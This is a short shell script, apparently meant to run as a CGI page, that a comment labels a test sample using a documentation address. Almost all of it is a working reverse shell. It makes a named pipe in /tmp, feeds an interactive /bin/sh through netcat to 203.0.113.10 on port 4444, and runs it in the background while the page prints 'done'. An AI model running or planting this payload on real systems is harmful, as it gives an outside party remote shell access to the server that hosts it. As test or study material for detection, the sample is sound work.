#!/bin/sh
# test sample (documentation address): a named pipe carries a shell through netcat to a fixed host
echo "Content-Type: text/plain"
echo ""
rm -f /tmp/.q; mkfifo /tmp/.q
cat /tmp/.q | /bin/sh -i 2>&1 | nc 203.0.113.10 4444 > /tmp/.q &
echo done
